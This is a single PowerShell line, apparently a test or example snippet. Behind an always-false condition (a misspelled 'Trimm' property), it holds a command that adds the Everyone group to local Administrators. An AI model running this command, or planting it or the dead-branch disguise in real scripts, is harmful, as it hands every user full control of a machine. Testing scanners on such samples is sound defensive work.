if ('text'.Trimm) { Add-LocalGroupMember Administrators Everyone }
